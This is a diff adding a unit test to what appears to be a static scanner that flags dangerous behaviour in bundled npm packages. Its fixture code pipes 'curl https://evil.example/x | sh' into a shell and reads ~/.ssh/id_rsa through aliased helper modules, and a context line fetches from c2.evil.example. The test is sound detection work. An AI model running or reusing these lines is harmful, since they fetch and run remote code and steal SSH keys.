@@ -160,4 +160,15 @@ require("#lib/net").get("https://c2.evil.example/x");`,
       "5 info Opens an outbound connection (https.get) to c2.evil.example",
     ]);
   });
+
+  it("follows packages bundled in the tarball, whose calls are the importer's own", () => {
+    const files = {
+      "a-index.js": `const h = require("helper");\nh.run("curl https://evil.example/x | sh");\nrequire("@acme/io").slurp(require("os").homedir() + "/.ssh/id_rsa");\nrequire("lodash").run("curl");`,
+      "node_modules/helper/package.json": JSON.stringify({ name: "helper", main: "lib/index.js" }),
+      "node_modules/helper/lib/index.js": `exports.run = require("child_process").exec;`,
+      "node_modules/@acme/io/package.json": JSON.stringify({ name: "@acme/io", exports: { ".": { require: "./io.cjs" } } }),
+      "node_modules/@acme/io/io.cjs": `module.exports = { slurp: require("fs").readFileSync };`,
+    };
+    expect(seen(files, "a-index.js")).toEqual(['2 info Runs "curl" (child_process.exec)', "3 high Reads SSH keys (~/.ssh/id_rsa)"]);
+  });
 });
